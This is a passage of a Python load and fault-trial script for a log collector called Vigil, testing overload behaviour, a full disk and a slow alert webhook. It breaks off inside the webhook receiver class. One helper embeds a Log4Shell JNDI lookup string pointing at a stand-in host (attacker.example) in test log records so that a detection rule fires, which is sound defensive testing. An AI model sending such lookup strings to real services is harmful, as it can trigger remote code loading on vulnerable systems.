#!/usr/bin/env python3
"""Overload and fault trials for Vigil: 3x capacity, a full disk, a slow webhook receiver.

Three trials, each run against a fresh `vigil serve` (config written to the work directory,
listeners on 127.0.0.1 port 0, auth off) loaded with OTLP/HTTP JSON logs whose records carry
`trial.run`, `trial.req` (one per request) and `trial.id` (one per record), as in
benches/crash_trials.py, whose server and query helpers this script imports. A request counts as
acknowledged only on HTTP 200 without a partial success; afterwards every acknowledged record
must be stored exactly once (read back through `POST /api/v1/query`: per request, rows and
distinct ids).

overload
    Capacity first: --capacity-senders closed-loop senders for --capacity-duration, acked
    records/s. Then --factor (3) times that is offered for --duration (5 minutes) by
    --processes x --threads senders, each paced to its share of the target rate (open loop: a
    refused request is not retried and Retry-After is ignored; a sender whose request is still
    being answered when its next slot comes skips the slot, counted as `missed`). The server
    runs with Vigil's defaults except `ingest.max_in_flight_requests` (--max-in-flight, 64) and
    `ingest.max_body_bytes` (--max-body-bytes, 1 MiB), so that the senders outnumber the
    in-flight slots. Its RSS (VmRSS) is sampled every second. Criteria:
      - memory: peak RSS below the bound computed from the config (below), and no growth: the
        peak of the last third of the overload at most 1.25 x the peak of the first third
        plus 32 MiB;
      - clients get 429/503: the server refused requests, and refusals came as HTTP answers,
        not as broken connections (connection errors at most 1% of refusals);
      - nothing acknowledged is lost or duplicated;
      - the server stayed up.
    The memory bound, from the config (an estimate of the worst case, not a guarantee):
        idle RSS after start
      + max_in_flight_requests x max_body_bytes x 3   (body, decoded request, Arrow batch)
      + (max_pending_segments + 2) x segment_max_bytes x 2   (the open segment, the closed ones
        waiting, the one compacting: their rows stay in memory as Arrow until compacted, and
        the Parquet writer's buffers)
      + detector.queue_batches x max_body_bytes   (batches queued for the detector)

disk-full
    A small tmpfs (--disk-size, 64 MiB; a loopback ext4 image if tmpfs cannot be mounted)
    holds the data directory and a ballast file (--ballast, 40 MiB) the script writes first.
    Closed-loop senders fill the rest until every request is refused for --full-hold seconds;
    meanwhile /healthz and /readyz are polled. Then the ballast is deleted (space returns) and
    the load goes on until requests are acknowledged again for --recovered-hold seconds.
    Criteria: refusals while full are 503 (or 429) answers, the server stays up and /healthz
    stays 200, requests are acknowledged again without a restart, every acknowledged record
    is stored exactly once, also after a restart (SIGTERM, start again on the same mount). What
    /readyz answered while full is reported. The mount is removed at the end.

slow-webhook
    An alert webhook sink (Alertmanager format, group_wait 1s) points at a receiver run by the
    script. Rounds alternate the receiver's behaviour: `fast` (answers at once), `slow`
    (answers after --webhook-delay, 5 s) and `hang` (never answers; Vigil's 10 s timeout cuts
    each attempt). Each round is a fresh server loaded for --round-duration by closed-loop
    senders while an attacker thread sends a Log4Shell lookup string under a new service name
    every --alert-interval seconds, so a new alert fires each time. Criteria: median acked
    records/s with `slow` and with `hang` at least 0.8 x `fast` (and p99 ack latency reported),
    every alert raised reaches the slow receiver in the end (within --drain-timeout after the
    load), and with `hang` the notifications stay queued in the outbox; nothing acknowledged
    lost.

Exit status: 0 if every trial run passed, 1 if any failed, 2 if a trial could not run (and none
failed).

Usage (Python 3.11 standard library only; disk-full needs root to mount):

    cargo build --release -p vigil-collector --bin vigil
    python3 benches/overload_trials.py --vigil target/release/vigil             # all three
    python3 benches/overload_trials.py --vigil target/release/vigil overload --duration 60
    python3 benches/overload_trials.py disk-full     # builds target/release/vigil first

--json prints the results as JSON; --work-dir keeps configs, logs and data.
"""

from __future__ import annotations

import argparse
import collections
import http.client
import http.server
import json
import multiprocessing
import os
import queue
import random
import re
import select
import shutil
import socket
import statistics
import subprocess
import sys
import tempfile
import threading
import time
from dataclasses import dataclass, field

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import crash_trials as ct  # noqa: E402  (server start/stop, query API, logs)

from crash_trials import TrialError, log  # noqa: E402

SERVICE = "overload-trial"
MIB = 1024 * 1024
REPO = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))


class CouldNotRun(Exception):
    """The trial's setting could not be made (no mount, ...): not a finding about Vigil."""


# ---------------------------------------------------------------------------------------------
# Config


def config_text(
    data_dir: str,
    *,
    max_in_flight: int = 256,
    max_body_bytes: int = 16 * MIB,
    segment_max_bytes: int = 64 * MIB,
    segment_max_age: str = "60s",
    max_pending_segments: int = 2,
    sink_url: str | None = None,
) -> str:
    text = f"""version = 1

[server]
grpc_addr = "127.0.0.1:0"
http_addr = "127.0.0.1:0"
api_addr = "127.0.0.1:0"
shutdown_timeout = "30s"

[ingest]
max_body_bytes = {max_body_bytes}
max_in_flight_requests = {max_in_flight}
retry_after = "1s"

[storage]
data_dir = {json.dumps(data_dir)}
wal_sync = "always"
segment_max_bytes = {segment_max_bytes}
segment_max_age = {json.dumps(segment_max_age)}
max_pending_segments = {max_pending_segments}

[query]
timeout = "1800s"
memory_limit_bytes = {4 * 1024 * MIB}
max_result_rows = 10000000
"""
    if sink_url:
        # One new alert per service: allow far more than the default 20 per rule and minute.
        text += f"""
[detector.alerts]
max_new_per_rule_per_minute = 100000

[alerts]
egress_allow = ["127.0.0.1"]

[[alerts.sinks]]
name = "trial"
format = "alertmanager"
url = {json.dumps(sink_url)}
group_wait = "1s"
group_interval = "1s"
send_resolved = false
timeout = "10s"
concurrency = 4
initial_backoff = "1s"
max_backoff = "10s"
"""
    return text


def memory_bound(idle_rss: int, max_in_flight: int, max_body: int, segment: int, pending: int,
                 detector_queue: int = 256) -> dict:
    parts = {
        "idle_rss": idle_rss,
        "in_flight": max_in_flight * max_body * 3,
        "segments": (pending + 2) * segment * 2,
        "detector_queue": detector_queue * max_body,
    }
    parts["total"] = sum(parts.values())
    return parts


# ---------------------------------------------------------------------------------------------
# Requests

RECORD = (
    '{{"timeUnixNano":"{t}","severityNumber":9,"severityText":"INFO",'
    '"body":{{"stringValue":"{body}"}},'
    '"attributes":['
    '{{"key":"trial.run","value":{{"stringValue":"{run}"}}}},'
    '{{"key":"trial.req","value":{{"stringValue":"@REQ@"}}}},'
    '{{"key":"trial.id","value":{{"stringValue":"@REQ@-i{i:03d}"}}}},'
    '{{"key":"http.route","value":{{"stringValue":"/api/orders"}}}},'
    '{{"key":"http.response.status_code","value":{{"intValue":"200"}}}}]}}'
)
PLACEHOLDER = b"@REQ@"


def body_template(run: str, n: int, service: str = SERVICE, attack: bool = False) -> bytes:
    """A request of n records with @REQ@ where the request id goes (filled in by bytes.replace,
    which keeps the senders' own CPU small next to the server's). With attack, the first
    record's body carries a Log4Shell lookup string, which the shipped rule
    web_log4shell fires on."""
    t0 = time.time_ns()
    records = []
    for i in range(n):
        body = f"overload-trial record @REQ@-i{i:03d}"
        if attack and i == 0:
            body = "search failed for query ${jndi:ldap://attacker.example/a} " + body
        records.append(RECORD.format(t=t0 + i, body=body, run=run, i=i))
    head = (
        '{"resourceLogs":[{"resource":{"attributes":['
        '{"key":"service.name","value":{"stringValue":"' + service + '"}},'
        '{"key":"host.name","value":{"stringValue":"trial-host"}}]},'
        '"scopeLogs":[{"scope":{"name":"overload-trials"},"logRecords":['
    )
    return (head + ",".join(records) + "]}]}]}").encode()


@dataclass
class Tally:
    """What one or more senders saw."""

    acked: dict[str, int] = field(default_factory=dict)  # request id -> records
    sent: dict[str, int] = field(default_factory=dict)
    status: collections.Counter = field(default_factory=collections.Counter)  # "200", "429", ...
    errors: collections.Counter = field(default_factory=collections.Counter)  # "BrokenPipeError reused", ...
    partial: int = 0
    latencies: list[float] = field(default_factory=list)  # seconds, acknowledged requests
    events: list[tuple[float, str, int]] = field(default_factory=list)  # (monotonic, outcome, records)
    missed: int = 0  # paced slots skipped because the previous request was still out

    def merge(self, other: "Tally") -> None:
        self.acked.update(other.acked)
        self.sent.update(other.sent)
        self.status.update(other.status)
        self.errors.update(other.errors)
        self.partial += other.partial
        self.latencies.extend(other.latencies)
        self.events.extend(other.events)
        self.missed += other.missed

    def to_dict(self) -> dict:
        return self.__dict__

    @classmethod
    def from_dict(cls, d: dict) -> "Tally":
        t = cls()
        t.__dict__.update(d)
        return t


def send_loop(
    addr: tuple[str, int],
    run: str,
    client: str,
    stop,  # threading.Event or multiprocessing.Event
    tally: Tally,
    records: int = 512,
    interval: float | None = None,
    refused_wait: float = 0.0,
) -> None:
    """POSTs requests until stop is set. interval: paced (open loop), one request per interval
    at most, no retries; None: closed loop. refused_wait: pause after a 429/503 (closed loop),
    instead of the Retry-After Vigil asks for."""
    conn: http.client.HTTPConnection | None = None
    used = False  # the connection already carried a request
    q = 0
    template, built = b"", 0.0
    next_t = time.monotonic() + (random.random() * interval if interval else 0.0)
    while not stop.is_set():
        if interval:
            now = time.monotonic()
            if now < next_t:
                if stop.wait(next_t - now):
                    break
            elif now - next_t > interval:
                tally.missed += int((now - next_t) / interval)
                next_t = now
            next_t += interval
        if time.monotonic() - built > 10:
            template, built = body_template(run, records), time.monotonic()
        q += 1
        req = f"{run}-{client}-q{q:06d}"
        body = template.replace(PLACEHOLDER, req.encode())
        tally.sent[req] = records
        started = time.monotonic()
        try:
            if conn is None or conn.sock is None:
                conn, used = http.client.HTTPConnection(*addr, timeout=60), False
            conn.request("POST", "/v1/logs", body=body, headers={"Content-Type": "application/json"})
            resp = conn.getresponse()
            data = resp.read()
        except (OSError, http.client.HTTPException) as e:
            tally.errors[f"{type(e).__name__} {'reused' if used else 'new'} connection"] += 1
            tally.events.append((started, "error", records))
            if conn is not None:
                conn.close()
            conn = None
            stop.wait(0.01)
            continue
        used = True
        code = str(resp.status)
        tally.status[code] += 1
        if resp.status == 200:
            if ct.fully_acknowledged(data):
                tally.acked[req] = records
                tally.latencies.append(time.monotonic() - started)
                tally.events.append((started, "200", records))
            else:
                tally.partial += 1
                tally.events.append((started, "partial", records))
        else:
            tally.events.append((started, code, records))
            if refused_wait and resp.status in (429, 503):
                stop.wait(refused_wait)
            elif resp.status not in (429, 503):
                stop.wait(0.05)
    if conn is not None:
        conn.close()


def run_threads(addr, run: str, prefix: str, n: int, stop, **kw) -> tuple[list[threading.Thread], list[Tally]]:
    tallies = [Tally() for _ in range(n)]
    threads = [
        threading.Thread(
            target=send_loop, args=(addr, run, f"{prefix}{c:03d}", stop, tallies[c]), kwargs=kw, daemon=True
        )
        for c in range(n)
    ]
    for t in threads:
        t.start()
    return threads, tallies


def sender_process(addr, run: str, proc: int, threads: int, stop, out, kw: dict) -> None:
    """One process of paced senders (several processes: the senders are not held to one core
    by the interpreter lock)."""
    ts, tallies = run_threads(addr, run, f"p{proc}c", threads, stop, **kw)
    for t in ts:
        t.join()
    total = Tally()
    for t in tallies:
        total.merge(t)
    out.put(total.to_dict())


def merged(tallies: list[Tally]) -> Tally:
    total = Tally()
    for t in tallies:
        total.merge(t)
    return total


def percentile(values: list[float], p: float) -> float:
    if not values:
        return 0.0
    s = sorted(values)
    return s[min(len(s) - 1, int(round(p / 100 * (len(s) - 1))))]


# ---------------------------------------------------------------------------------------------
# Server observation


def rss_bytes(pid: int, field_name: str = "VmRSS") -> int:
    try:
        with open(f"/proc/{pid}/status", encoding="ascii") as f:
            for line in f:
                if line.startswith(field_name + ":"):
                    return int(line.split()[1]) * 1024
    except OSError:
        pass
    return 0


class RssSampler(threading.Thread):
    def __init__(self, pid: int, period: float = 1.0):
        super().__init__(daemon=True)
        self.pid, self.period = pid, period
        self.samples: list[tuple[float, int]] = []
        self.halt = threading.Event()

    def run(self) -> None:
        while not self.halt.is_set():
            v = rss_bytes(self.pid)
            if v:
                self.samples.append((time.monotonic(), v))
            self.halt.wait(self.period)

    def peak(self, start: float = 0.0, end: float = float("inf")) -> int:
        return max((v for t, v in self.samples if start <= t <= end), default=0)


METRIC_LINE = re.compile(r"^([a-zA-Z_:][a-zA-Z0-9_:]*)(\{[^}]*\})?\s+(\S+)$")


def scrape(server: ct.Server) -> dict[str, float]:
    """The server's /metrics as {'name{labels}': value}."""
    conn = http.client.HTTPConnection(*server.api, timeout=10)
    try:
        conn.request("GET", "/metrics")
        text = conn.getresponse().read().decode()
    except (OSError, http.client.HTTPException):
        return {}
    finally:
        conn.close()
    out = {}
    for line in text.splitlines():
        m = METRIC_LINE.match(line)
        if m and not line.startswith("#"):
            try:
                out[m.group(1) + (m.group(2) or "")] = float(m.group(3))
            except ValueError:
                pass
    return out


def pick(metrics: dict[str, float], prefix: str) -> dict[str, float]:
    """Series whose name starts with prefix (histogram buckets left out)."""
    return {k: v for k, v in sorted(metrics.items()) if k.startswith(prefix) and "_bucket" not in k}


def log_findings(server: ct.Server, lines: int = 12) -> dict:
    """Panics and errors in the server log, with the first few lines of each kind."""
    text = server.log_text()
    out: dict = {"panics": text.count("panicked"), "error_lines": 0, "examples": {}}
    for line in text.splitlines():
        if " ERROR " in line or "panicked" in line or '"level":"ERROR"' in line:
            out["error_lines"] += 1
            key = re.sub(r"^\S+\s+", "", line)[:90]
            key = re.sub(r"\d+", "N", key)
            if key not in out["examples"] and len(out["examples"]) < lines:
                out["examples"][key] = line[:400]
    out["examples"] = list(out["examples"].values())
    return out


# ---------------------------------------------------------------------------------------------
# Checking what was stored


def verify(server: ct.Server, run: str, tally: Tally) -> dict:
    """Every acknowledged request of run stored with all its records, each once."""
    answer = ct.query_api(
        server.api,
        "SELECT attributes['trial.req'] AS req, count(*) AS n, "
        "count(DISTINCT attributes['trial.id']) AS d FROM logs "
        f"WHERE attributes['trial.run'] = '{run}' GROUP BY 1",
        timeout=3600,
    )
    stored = {r[0]: (int(r[1]), int(r[2])) for r in answer["rows"]}
    malformed = int(
        ct.query_api(
            server.api,
            "SELECT count(*) FROM logs "
            f"WHERE attributes['trial.run'] = '{run}' AND (attributes['trial.id'] IS NULL "
            "OR attributes['trial.req'] IS NULL "
            "OR NOT starts_with(attributes['trial.id'], concat(attributes['trial.req'], '-i')))",
            timeout=3600,
        )["rows"][0][0]
    )
    rec = ct.reconcile(tally.acked, tally.sent, stored)
    return {
        "records_acked": sum(tally.acked.values()),
        "records_stored": sum(d for _, d in stored.values()),
        "records_lost": rec.lost,
        "records_duplicated": rec.dup,
        "records_stored_unacked": rec.stored_unacked_records,
        "unknown_requests": len(rec.unknown),
        "malformed_ids": malformed,
        "examples": [f"lost {e}" for e in rec.lost_examples]
        + [f"duplicated {e}" for e in rec.dup_examples],
    }


def verified_ok(v: dict) -> bool:
    return (
        v["records_lost"] == 0
        and v["records_duplicated"] == 0
        and v["malformed_ids"] == 0
        and v["unknown_requests"] == 0
    )


def find_vigil(args: argparse.Namespace) -> str:
    if args.vigil:
        return args.vigil
    target = os.environ.get("CARGO_TARGET_DIR", os.path.join(REPO, "target"))
    log("building: cargo build --release -p vigil-collector --bin vigil")
    r = subprocess.run(["cargo", "build", "--release", "-p", "vigil-collector", "--bin", "vigil"], cwd=REPO)
    if r.returncode != 0:
        raise CouldNotRun("cargo build failed")
    return os.path.join(target, "release", "vigil")


def kill(server: ct.Server | None) -> None:
    if server and server.proc.poll() is None:
        server.proc.kill()
        server.proc.wait()


def fresh_dir(work: str, name: str) -> str:
    path = os.path.join(work, name)
    shutil.rmtree(path, ignore_errors=True)
    os.makedirs(path)
    return path


# ---------------------------------------------------------------------------------------------
# Trial 1: overload


def overload_trial(args: argparse.Namespace, vigil: str, work: str) -> dict:
    tdir = fresh_dir(work, "overload")
    data_dir = os.path.join(tdir, "data")
    config = os.path.join(tdir, "vigil.toml")
    segment = 64 * MIB
    with open(config, "w", encoding="utf-8") as f:
        f.write(
            config_text(
                data_dir,
                max_in_flight=args.max_in_flight,
                max_body_bytes=args.max_body_bytes,
                segment_max_bytes=segment,
            )
        )
    result: dict = {"trial": "overload"}
    server = ct.start_server(vigil, config, tdir, "overload", args.start_timeout)
    try:
        time.sleep(2)
        idle = rss_bytes(server.proc.pid)
        bound = memory_bound(idle, args.max_in_flight, args.max_body_bytes, segment, 2)
        result["memory_bound"] = bound

        # Capacity: closed loop, no refusals expected (fewer senders than in-flight slots).
        stop = threading.Event()
        cap_start = time.monotonic()
        threads, tallies = run_threads(server.http, "cap", "c", args.capacity_senders, stop,
                                       records=args.records, refused_wait=0.1)
        time.sleep(args.capacity_duration)
        stop.set()
        for t in threads:
            t.join()
        cap_s = time.monotonic() - cap_start
        cap = merged(tallies)
        capacity = sum(cap.acked.values()) / cap_s
        result["capacity"] = {
            "senders": args.capacity_senders,
            "duration_s": round(cap_s, 1),
            "acked_records_per_s": round(capacity),
            "p50_ack_ms": round(percentile(cap.latencies, 50) * 1000, 1),
            "p99_ack_ms": round(percentile(cap.latencies, 99) * 1000, 1),
            "status": dict(cap.status),
            "errors": dict(cap.errors),
        }
        log(f"overload: capacity {capacity:.0f} records/s acked ({args.capacity_senders} closed-loop senders, {cap_s:.0f} s)")
        if capacity <= 0:
            raise TrialError("capacity run acknowledged nothing")
        time.sleep(3)  # let the capacity run's requests settle

        # Overload: paced senders in several processes.
        target = args.factor * capacity
        senders = args.processes * args.threads
        interval = senders * args.records / target
        ctx = multiprocessing.get_context("fork")
        pstop = ctx.Event()
        out = ctx.Queue()
        before = scrape(server)
        procs = [
            ctx.Process(
                target=sender_process,
                args=(server.http, "ovl", p, args.threads, pstop, out,
                      {"records": args.records, "interval": interval}),
                daemon=True,
            )
            for p in range(args.processes)
        ]
        sampler = RssSampler(server.proc.pid)
        sampler.start()
        log(f"overload: offering {target:.0f} records/s ({args.factor}x) for {args.duration:.0f} s "
            f"from {senders} paced senders in {args.processes} processes")
        ovl_start = time.monotonic()
        for p in procs:
            p.start()
        deadline = ovl_start + args.duration
        mid_metrics: list[dict] = []
        while time.monotonic() < deadline:
            time.sleep(min(10.0, max(0.0, deadline - time.monotonic())))
            if server.proc.poll() is not None:
                break
            m = scrape(server)
            mid_metrics.append({
                "t_s": round(time.monotonic() - ovl_start),
                "rss_mib": round(rss_bytes(server.proc.pid) / MIB),
                "wal_queue": m.get('vigil_queue_depth{stage="wal"}', 0),
                "wal_mib": round(m.get("vigil_wal_bytes", 0) / MIB, 1),
            })
        pstop.set()
        parts = []
        for _ in procs:
            try:
                parts.append(Tally.from_dict(out.get(timeout=180)))
            except queue.Empty:
                raise TrialError("a sender process did not report")
        for p in procs:
            p.join(timeout=30)
        ovl_end = time.monotonic()
        sampler.halt.set()
        sampler.join()
        ovl_s = ovl_end - ovl_start
        alive = server.proc.poll() is None
        hwm = rss_bytes(server.proc.pid, "VmHWM")
        after = scrape(server)
        ovl = merged(parts)

        offered = sum(ovl.sent.values())
        acked = sum(ovl.acked.values())
        refused = ovl.status.get("429", 0) + ovl.status.get("503", 0)
        conn_errors = sum(ovl.errors.values())
        third = ovl_s / 3
        first_peak = sampler.peak(ovl_start, ovl_start + third)
        last_peak = sampler.peak(ovl_end - third, ovl_end)
        peak = sampler.peak()
        steady = statistics.median([v for t, v in sampler.samples if t >= ovl_start + third] or [0])
        windows = collections.Counter()
        for t, outcome, n in ovl.events:
            if outcome == "200":
                windows[int((t - ovl_start) // 10)] += n
        window_rates = [windows.get(i, 0) / 10 for i in range(int(ovl_s // 10))]
        rejected = {
            k: after.get(k, 0) - before.get(k, 0)
            for k in after
            if k.startswith("vigil_rejected_requests_total")
        }
        result["overload"] = {
            "target_records_per_s": round(target),
            "senders": senders,
            "duration_s": round(ovl_s, 1),
            "offered_records_per_s": round(offered / ovl_s),
            "offered_requests": len(ovl.sent),
            "missed_slots": ovl.missed,
            "acked_records_per_s": round(acked / ovl_s),
            "acked_vs_capacity": round(acked / ovl_s / capacity, 2),
            "acked_records_per_s_10s_windows": {
                "min": min(window_rates, default=0),
                "median": statistics.median(window_rates) if window_rates else 0,
                "max": max(window_rates, default=0),
            },
            "p50_ack_ms": round(percentile(ovl.latencies, 50) * 1000, 1),
            "p99_ack_ms": round(percentile(ovl.latencies, 99) * 1000, 1),
            "max_ack_ms": round(max(ovl.latencies, default=0) * 1000, 1),
            "status": dict(ovl.status),
            "connection_errors": dict(ovl.errors),
            "partial": ovl.partial,
            "server_rejected_requests": {k: v for k, v in rejected.items() if v},
            "rss_idle_mib": round(idle / MIB),
            "rss_peak_mib": round(peak / MIB),
            "rss_hwm_mib": round(hwm / MIB),
            "rss_steady_median_mib": round(steady / MIB),
            "rss_peak_first_third_mib": round(first_peak / MIB),
            "rss_peak_last_third_mib": round(last_peak / MIB),
            "memory_bound_mib": round(bound["total"] / MIB),
            "timeline": mid_metrics,
            "server_alive": alive,
        }
        if not alive:
            result["verify"] = {}
            result["log"] = log_findings(server)
            result["pass"] = False
            return result
        log("overload: load done, counting what was stored")
        time.sleep(2)
        v_cap = verify(server, "cap", cap)
        v_ovl = verify(server, "ovl", ovl)
        result["verify"] = {"capacity": v_cap, "overload": v_ovl}
        result["metrics_after"] = {
            **pick(after, "vigil_queue_depth"),
            **pick(after, "vigil_compactions_total"),
            **pick(after, "vigil_detector_skipped_batches_total"),
            **pick(after, "vigil_redaction_rows_dropped_total"),
            "vigil_parquet_files": after.get('vigil_parquet_files{signal="logs"}', 0),
        }
        result["log"] = log_findings(server)
        code = ct.stop_term(server)
        result["sigterm_exit_code"] = code
        checks = {
            "memory below bound": hwm <= bound["total"] and peak <= bound["total"],
            "memory flat (last third <= 1.25 x first third + 32 MiB)": last_peak <= first_peak * 1.25 + 32 * MIB,
            "server refused with 429/503": refused > 0,
            "refusals as answers, not broken connections (errors <= 1%)": conn_errors <= 0.01 * max(refused, 1),
            "nothing acknowledged lost or duplicated": verified_ok(v_cap) and verified_ok(v_ovl),
            "server stayed up": alive and result["log"]["panics"] == 0,
            "clean shutdown": code == 0,
        }
        result["checks"] = checks
        result["pass"] = all(checks.values())
        return result
    finally:
        kill(server)


# ---------------------------------------------------------------------------------------------
# Trial 2: disk full


def mount_small_disk(path: str, size_mib: int, work: str) -> tuple[str, str | None]:
    """Mounts a tmpfs (or, failing that, a loopback ext4 image) at path. Returns (kind, image)."""
    os.makedirs(path, exist_ok=True)
    r = subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size_mib}m,mode=0755", "tmpfs", path],
                       capture_output=True, text=True)
    if r.returncode == 0:
        return "tmpfs", None
    log(f"disk-full: tmpfs mount failed ({r.stderr.strip()}); trying a loopback ext4 image")
    image = os.path.join(work, "disk.img")
    try:
        with open(image, "wb") as f:
            f.truncate(size_mib * MIB)
    except OSError as e:
        raise CouldNotRun(f"cannot create {image}: {e}")
    for cmd in (["mkfs.ext4", "-q", "-F", image], ["mount", "-o", "loop", image, path]):
        r = subprocess.run(cmd, capture_output=True, text=True)
        if r.returncode != 0:
            raise CouldNotRun(f"{' '.join(cmd)} failed: {r.stderr.strip() or r.returncode} "
                              "(mounting needs root)")
    return "ext4 loop", image


def disk_free(path: str) -> int:
    st = os.statvfs(path)
    return st.f_bavail * st.f_frsize


def disk_trial(args: argparse.Namespace, vigil: str, work: str) -> dict:
    tdir = fresh_dir(work, "disk-full")
    mnt = os.path.join(tdir, "mnt")
    result: dict = {"trial": "disk-full"}
    kind, image = mount_small_disk(mnt, args.disk_size, tdir)
    server: ct.Server | None = None
    try:
        result["filesystem"] = f"{kind}, {args.disk_size} MiB"
        ballast = os.path.join(mnt, "ballast")
        with open(ballast, "wb") as f:
            chunk = os.urandom(MIB)
            for _ in range(args.ballast):
                f.write(chunk)
            f.flush()
            os.fsync(f.fileno())
        data_dir = os.path.join(mnt, "data")
        config = os.path.join(tdir, "vigil.toml")
        with open(config, "w", encoding="utf-8") as f:
            # Small segments and a short age, so compaction (and its failures) happen within
            # the trial; the rest at Vigil's defaults.
            f.write(config_text(data_dir, segment_max_bytes=4 * MIB, segment_max_age="2s"))
        server = ct.start_server(vigil, config, tdir, "disk", args.start_timeout)
        result["free_at_start_mib"] = round(disk_free(mnt) / MIB, 1)
        log(f"disk-full: {kind} of {args.disk_size} MiB, ballast {args.ballast} MiB, "
            f"{result['free_at_start_mib']} MiB free")

        stop = threading.Event()
        t0 = time.monotonic()
        threads, tallies = run_threads(server.http, "disk", "c", args.disk_senders, stop,
                                       records=args.records, refused_wait=0.05)
        probes: list[tuple[float, int | None, int | None, int]] = []  # t, healthz, readyz, free

        def probe() -> None:
            probes.append((time.monotonic(), ct.http_get_status(server.api, "/healthz"),
                           ct.http_get_status(server.api, "/readyz"), disk_free(mnt)))

        def latest_outcomes(since: float) -> list[str]:
            return [o for tl in tallies for (t, o, _) in tl.events if t >= since]

        # Fill until every request of the last full_hold seconds was refused.
        first_refusal = None
        full_since = None
        while True:
            time.sleep(0.25)
            probe()
            now = time.monotonic()
            if server.proc.poll() is not None:
                break
            recent = latest_outcomes(now - 1.0)
            if first_refusal is None and any(o in ("503", "429") for o in recent):
                first_refusal = now
            if recent and all(o != "200" for o in recent):
                full_since = full_since or now
                if now - full_since >= args.full_hold:
                    break
            else:
                full_since = None
            if now - t0 > args.fill_timeout:
                raise TrialError(f"the disk did not fill within {args.fill_timeout} s "
                                 f"({disk_free(mnt) / MIB:.1f} MiB free)")
        full_at = full_since or time.monotonic()
        full_metrics = scrape(server)
        full_status = collections.Counter(
            o for tl in tallies for (t, o, _) in tl.events if full_at <= t
        )
        full_probes = [p for p in probes if p[0] >= full_at]
        result["full"] = {
            "seconds_to_full": round(full_at - t0, 1),
            "free_when_full_mib": round(disk_free(mnt) / MIB, 2),
            "answers_while_full": dict(full_status),
            "healthz_while_full": dict(collections.Counter(str(p[1]) for p in full_probes)),
            "readyz_while_full": dict(collections.Counter(str(p[2]) for p in full_probes)),
            "server_alive": server.proc.poll() is None,
            "rejected_requests": pick(full_metrics, "vigil_rejected_requests_total"),
            "compactions": pick(full_metrics, "vigil_compactions_total"),
            "refusals_before_full": dict(collections.Counter(
                o for tl in tallies for (t, o, _) in tl.events
                if t < full_at and o not in ("200",)
            )),
        }
        log(f"disk-full: full after {full_at - t0:.1f} s; answers since: {dict(full_status)}; "
            f"/readyz {result['full']['readyz_while_full']}")
        if server.proc.poll() is not None:
            stop.set()
            result["log"] = log_findings(server)
            result["checks"] = {"server stayed up": False}
            result["pass"] = False
            return result

        # Space returns.
        os.remove(ballast)
        freed_at = time.monotonic()
        log(f"disk-full: ballast deleted, {disk_free(mnt) / MIB:.1f} MiB free")
        first_ack = None
        ready_again = None
        while True:
            time.sleep(0.1)
            probe()
            now = time.monotonic()
            if ready_again is None and probes[-1][2] == 200:
                ready_again = now
            if first_ack is None:
                acks = [t for tl in tallies for (t, o, _) in tl.events if o == "200" and t >= freed_at]
                if acks:
                    first_ack = min(acks)
            if first_ack is not None and now - first_ack >= args.recovered_hold:
                break
            if now - freed_at > args.recover_timeout or server.proc.poll() is not None:
                break
        stop.set()
        for t in threads:
            t.join()
        end = time.monotonic()
        total = merged(tallies)
        after_status = collections.Counter(o for (t, o, _) in total.events if t >= freed_at)
        result["recovery"] = {
            "first_ack_after_space_returned_s": round(first_ack - freed_at, 2) if first_ack else None,
            "readyz_200_after_s": round(ready_again - freed_at, 2) if ready_again else None,
            "answers_after": dict(after_status),
            "acked_records_per_s_after": round(
                sum(n for (t, o, n) in total.events if o == "200" and first_ack and t >= first_ack)
                / max(end - (first_ack or end), 1e-9)
            ),
            "free_at_end_mib": round(disk_free(mnt) / MIB, 1),
        }
        result["load"] = {
            "senders": args.disk_senders,
            "status": dict(total.status),
            "connection_errors": dict(total.errors),
            "requests_acked": len(total.acked),
        }
        log(f"disk-full: first ack {result['recovery']['first_ack_after_space_returned_s']} s after "
            f"space returned; /readyz 200 after {result['recovery']['readyz_200_after_s']} s")
        alive = server.proc.poll() is None
        v = verify(server, "disk", total) if alive else {}
        result["verify"] = v
        result["log"] = log_findings(server)
        result["metrics_after"] = {
            **pick(scrape(server), "vigil_rejected_requests_total"),
            **pick(scrape(server), "vigil_compactions_total"),
            **pick(scrape(server), "vigil_alert_write_failures_total"),
            **pick(scrape(server), "vigil_redaction_rows_dropped_total"),
        } if alive else {}
        code = ct.stop_term(server) if alive else None
        result["sigterm_exit_code"] = code
        # Restart on the same mount: what was acknowledged is still there.
        v2 = {}
        if alive:
            server = ct.start_server(vigil, config, tdir, "disk-restart", args.start_timeout)
            v2 = verify(server, "disk", total)
            result["verify_after_restart"] = v2
            result["restart_log"] = log_findings(server)
            ct.stop_term(server)
        full = result["full"]
        refusals_full = sum(n for k, n in full["answers_while_full"].items() if k in ("503", "429"))
        checks = {
            "refused with 503/429 while full": refusals_full > 0
            and refusals_full == sum(full["answers_while_full"].values()),
            "503 among the refusals while full": full["answers_while_full"].get("503", 0) > 0,
            "server stayed up, /healthz 200": alive and full["server_alive"]
            and set(full["healthz_while_full"]) == {"200"} and result["log"]["panics"] == 0,
            "accepts again without restart": first_ack is not None,
            "nothing acknowledged lost or duplicated": bool(v) and verified_ok(v),
            "same after a restart": bool(v2) and verified_ok(v2),
            "clean shutdown": code == 0,
        }
        result["checks"] = checks
        result["pass"] = all(checks.values())
        return result
    finally:
        kill(server)
        r = subprocess.run(["umount", mnt], capture_output=True, text=True)
        if r.returncode != 0:
            log(f"disk-full: umount {mnt} failed: {r.stderr.strip()}")
        elif image:
            os.remove(image)


# ---------------------------------------------------------------------------------------------
# Trial 3: slow webhook receiver


class Receiver:
    """An HTTP receiver for Vigil's webhook sink: `fast`, `slow` (answers after delay) or
    `hang` (holds every request until the receiver is closed)."""

    def __init__(self, mode: str, delay: float):
        self.mode, self.delay = mode, delay
        self.lock = threading.Lock()
        self.requests = 0
        self.answered = 0
        self.alerts: set[str] = set()
        self.in_flight = 0
        self.max_in_flight = 0
        self.closing = threading.Event()
        receiver = self

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_POST(self) -> None:  # noqa: N802
                n = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(n)
                with receiver.lock:
                    receiver.requests += 1
                    receiver.in_flight += 1
                    receiver.max_in_flight = max(receiver.max_in_flight, receiver.in_flight)
                try:
                    if receiver.mode == "slow":
                        receiver.closing.wait(receiver.delay)
